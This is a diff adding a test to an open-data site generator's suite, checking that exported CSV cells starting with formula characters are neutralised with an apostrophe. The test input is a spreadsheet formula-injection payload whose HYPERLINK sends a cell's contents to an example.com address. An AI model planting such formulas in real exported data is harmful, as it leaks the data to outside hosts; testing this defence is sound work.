@@ -143,3 +143,21 @@ def test_open_data_structured_data_sitemap_and_robots(built):
     sitemap = (built / "sitemap.xml").read_text()
     assert f"<loc>{BASE}meetings/osmb-2015-01-23/</loc>" in sitemap and "404" not in sitemap
     assert (built / "robots.txt").read_text().endswith(f"Sitemap: {BASE}sitemap.xml\n")
+
+
+def test_open_data_csv_cells_that_would_run_as_formulas_start_with_an_apostrophe(site):
+    # OWASP "CSV Injection": a spreadsheet runs a cell starting = + - @ or a tab as a formula.
+    formula = '=HYPERLINK("https://example.com/?"&A1,"Click")'
+    person = site.content / "people" / "cllr-brown.yaml"
+    person.write_text(f"name: '{formula}'\nkind: councillor\n")  # no honorific: the name starts the cell
+    result = site.run("build", "--no-search", "--as-of", "2015-06-01")
+    assert result.code == 0, result.stderr
+    public = site.root / "public"
+    people = list(csv.DictReader(io.StringIO((public / "data" / "people.csv").read_text())))
+    assert "'" + formula in [row["name"] for row in people]
+    cells = [
+        cell for path in public.rglob("*.csv") for row in csv.reader(io.StringIO(path.read_text())) for cell in row
+    ]
+    assert cells.count("'" + formula) >= 2  # the people dataset and the committee's members table
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]
+    assert any(person["name"] == formula for person in json.loads((public / "data" / "people.json").read_text()))
